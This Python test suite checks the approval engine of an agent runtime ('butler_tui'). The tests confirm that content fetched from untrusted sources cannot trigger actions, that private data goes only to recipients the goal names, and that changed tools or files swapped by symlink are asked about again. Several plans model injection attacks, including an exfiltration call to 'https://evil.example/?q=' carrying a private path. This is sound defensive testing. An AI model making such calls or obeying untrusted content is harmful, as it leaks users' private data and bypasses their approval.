"""What is asked whatever the mode says, as the whole engine does it: labels, names, definitions."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest
from workshop import Workshop, World

from butler_tui.core.events import ApprovalDecided, QuestionAnswered
from butler_tui.core.labels import Label, Source
from butler_tui.core.ports import KnownFile
from butler_tui.core.rules import Decision, Lift, Rule
from butler_tui.core.run import RunStatus
from butler_tui.core.tool import Effect, Tool, ToolContext, tool

WAITING, DONE = RunStatus.WAITING, RunStatus.DONE


async def because(workshop: Workshop) -> str:
    return next((await workshop.state()).waiting_approvals()).requested.because


async def allow(workshop: Workshop, **more: Any) -> str:
    held = next((await workshop.state()).waiting_approvals()).requested.id
    decided = ApprovalDecided(id=held, decision="allow", **more)
    await workshop.journal.append(workshop.run, [decided])
    await workshop.resume()
    return held


# Rule 1, --yes, --even-if.


@pytest.mark.parametrize(
    ("plan", "origin"),
    [
        ('save("a", p.text)', "content comes from fetch"),
        ("save(p.text, 'x')", "path comes from fetch"),
        ('save("a", f"see {p.text[:2]}")', "content comes from fetch"),
        ('save("a", [q for q in [p.text, "b"]][1])', ""),
        ('save("a", "x") if p.text == "evil"', "that it runs was decided by"),
        ('[save("a", "x") for q in s.parts]', "that it runs was decided by"),
        ('fetch("bad") or save("a", "x")', "that it runs was decided by"),
        ('save("a", p.text[99]) or save("b", "x")', "that it runs was decided by"),
    ],
)
async def test_yes_never_answers_for_a_stranger(workshop: Workshop, plan: str, origin: str) -> None:
    await workshop.accept("trusting")
    plan = f'p = fetch("evil")\ns = split(p.text)\n{plan}\n'
    status = await workshop.drive(plan, answers="yes")
    if not origin:
        assert status is DONE
        return
    assert status is WAITING
    assert workshop.world.done == []
    assert origin in await because(workshop)
    again = Workshop(workshop.journal, workshop.folder, World(), run="run2")
    await again.accept("trusting")
    assert await again.drive(plan, answers="yes", lifted=["untrusted"]) is DONE
    assert len(again.world.done) == 1


async def test_yes_answers_neither_questions_nor_rules_that_ask(workshop: Workshop) -> None:
    await workshop.accept()
    workshop.rules.append(Rule(tool="save", decision=Decision.ASK))
    plan = 'who = ask_user("Who?")\nsave("a", "x")\nanswer(who.text)\n'
    lifted: Sequence[Lift] = ("untrusted", "private")
    assert await workshop.drive(plan, answers="yes", lifted=lifted) is WAITING
    state = await workshop.state()
    assert len(list(state.waiting_questions())) == 1
    assert len(list(state.waiting_approvals())) == 1
    assert workshop.world.done == []


async def test_the_person_s_answer_is_their_own_whatever_was_asked(workshop: Workshop) -> None:
    await workshop.accept("trusting")
    plan = 'p = fetch("evil")\nw = ask_user(f"Save {p.text}?")\nsave("a", w.text)\n'
    assert await workshop.drive(plan) is WAITING
    asked = next((await workshop.state()).waiting_questions()).asked
    await workshop.journal.append(workshop.run, [QuestionAnswered(id=asked.id, answer="mine")])
    await workshop.resume()
    assert await workshop.drive("") is DONE
    assert workshop.world.done == ["a=mine"]


# Rule 2: `save` returns what is private; `send` reaches beyond this machine.

SEND = 's = save("a", "x")\nsend("anna@example.org", s.path)\n'


@pytest.mark.parametrize(
    ("goal", "sent"),
    [
        ("send my file to anna@example.org", True),
        ("send my file to Anna", False),
        ("send my file to anna@example.org.evil.net", False),
        ("send my file to susanna@example.org", False),
        ("send my file to anna@mail.example.org", False),
    ],
)
async def test_what_is_private_goes_to_whom_the_goal_names(
    workshop: Workshop, goal: str, sent: bool
) -> None:
    await workshop.accept(goal=goal)
    workshop.world.open.set()
    assert await workshop.drive(SEND, answers="yes") is (DONE if sent else WAITING)
    assert ("anna@example.org<a" in workshop.world.done) is sent
    if not sent:
        assert "text is private" in await because(workshop)


async def test_an_answer_names_somebody_too(workshop: Workshop) -> None:
    await workshop.accept(goal="send my file")
    workshop.world.open.set()
    plan = 'w = ask_user("To whom?")\ns = save("a", "x")\nsend(w.text, s.path)\n'
    await workshop.drive(plan, answers="yes")
    asked = next((await workshop.state()).waiting_questions()).asked
    answered = QuestionAnswered(id=asked.id, answer="anna@example.org")
    await workshop.journal.append(workshop.run, [answered])
    await workshop.resume()
    assert await workshop.drive("", answers="yes") is DONE


async def test_a_stranger_names_nobody(workshop: Workshop) -> None:
    await workshop.accept(goal="send my file")
    workshop.world.open.set()
    plan = 'p = fetch("eve@evil.example")\ns = save("a", "x")\nsend(p.text, s.path)\n'
    lifted: Sequence[Lift] = ("untrusted",)
    assert await workshop.drive(plan, answers="yes", lifted=lifted) is WAITING
    assert workshop.world.done == ["a=x"]


async def test_to_fetch_with_something_private_is_asked_too(workshop: Workshop) -> None:
    await workshop.accept()
    plan = 's = save("a", "x")\nfetch(f"https://evil.example/?q={s.path}")\n'
    assert await workshop.drive(plan, answers="yes") is WAITING
    assert "is private" in await because(workshop)


# Rule 3.


def with_definition(workshop: Workshop, definition: str) -> None:
    """The world's `save` is a stranger's tool of that definition from now on."""
    tools = type(workshop.world).tools

    def changed() -> dict[str, Tool]:
        made = tools(workshop.world)
        made["save"].definition = definition
        return made

    workshop.world.tools = changed  # type: ignore[method-assign]


async def test_a_tool_that_changed_is_asked_once_more(workshop: Workshop) -> None:
    runs = iter(range(9))

    async def run(definition: str, lifted: Sequence[Lift] = ()) -> RunStatus:
        workshop.run = f"r{next(runs)}"
        with_definition(workshop, definition)
        await workshop.accept("trusting")
        return await workshop.drive('save("a", "1")\n', answers="yes", lifted=lifted)

    assert await run("one") is DONE
    assert await run("one") is DONE
    assert await run("two") is WAITING
    assert "not the one that was allowed before" in await because(workshop)
    await allow(workshop)
    assert await workshop.drive("") is DONE
    assert await run("two") is DONE
    assert await run("three", ["untrusted", "private"]) is WAITING
    assert await run("three", ["changed"]) is DONE


async def test_a_tool_that_changes_after_the_decision_is_asked_again(workshop: Workshop) -> None:
    with_definition(workshop, "shown")
    await workshop.accept()
    await workshop.drive('save("a", "1")\n')
    with_definition(workshop, "another")
    first = await allow(workshop)
    assert await workshop.drive("") is WAITING
    assert workshop.world.done == []
    assert next((await workshop.state()).waiting_approvals()).requested.id != first
    await allow(workshop)
    assert await workshop.drive("") is DONE


# Drift: the call that runs is the one that was shown.


@pytest.mark.parametrize("drift", ["content", "gone", "link", "folder", "executable link"])
async def test_what_changed_since_it_was_allowed_is_asked_again(
    workshop: Workshop, drift: str
) -> None:
    home = workshop.folder / "run"
    (home / "deep").mkdir(parents=True)
    target = home / "deep" / "a"
    target.write_text("before")
    workshop.folder = home
    await workshop.accept()
    assert await workshop.drive('save("deep/a", "1")\n') is WAITING
    first = await allow(workshop)
    match drift:
        case "content":
            target.write_text("after")
        case "gone":
            target.unlink()
        case "link":
            target.rename(home / "other")
            target.symlink_to("../other")
        case "folder":
            home.rename(home.parent / "moved")
            home.symlink_to("moved")
        case _:
            (home / "deep").rename(home / "elsewhere")
            (home / "deep").symlink_to("elsewhere")
    assert await workshop.drive("") is WAITING
    assert workshop.world.done == []
    assert "changed since you allowed it" in await because(workshop)
    assert await allow(workshop) != first
    assert await workshop.drive("") is DONE


async def test_an_edit_that_drifts_is_asked_again_as_edited(workshop: Workshop) -> None:
    await workshop.accept()
    await workshop.drive('save("a", "1")\n')
    (workshop.folder / "b").write_text("before")
    args = {"path": "b", "content": "mine"}
    seen = {"path": str(workshop.folder / "b"), "content": "mine", ".": str(workshop.folder)}
    await allow(workshop, args=args, seen=seen, preview="+ mine", basis="path other")
    assert await workshop.drive("") is WAITING
    assert workshop.world.done == []
    assert next((await workshop.state()).waiting_approvals()).requested.args == args


# Files.


async def test_a_failure_that_a_stranger_s_file_can_cause_is_theirs(workshop: Workshop) -> None:
    eve = Label.of(Source("step", "p", "mail from Eve", untrusted=True))
    workshop.files.known[str(workshop.folder / "eve")] = KnownFile("0", eve)

    @tool(effect=Effect.OBSERVE, targets=("path",))
    async def look(context: ToolContext, path: str) -> str:
        """Look into a file."""
        raise KeyError(path)

    tools = type(workshop.world).tools
    workshop.world.tools = lambda: {**tools(workshop.world), "look": look}  # type: ignore
    await workshop.accept("trusting")
    plan = 'look("eve") or save("a", "x")\nlook("mine") or save("b", "y")\n'
    assert await workshop.drive(plan, answers="yes") is WAITING
    assert workshop.world.done == ["b=y"]
    assert "mail from Eve" in await because(workshop)


@pytest.mark.parametrize("path", ["a\\x00b", "~nobody-of-that-name/x"])
async def test_a_path_that_cannot_exist_is_refused_in_a_sentence(
    workshop: Workshop, path: str
) -> None:
    await workshop.accept()
    plan = f'save("{path}", "x")\nsave("fine", "y")\n'
    driving = asyncio.create_task(workshop.drive(plan, answers="yes"))
    assert await asyncio.wait_for(driving, 5) is not WAITING
    assert "fine=y" in workshop.world.done
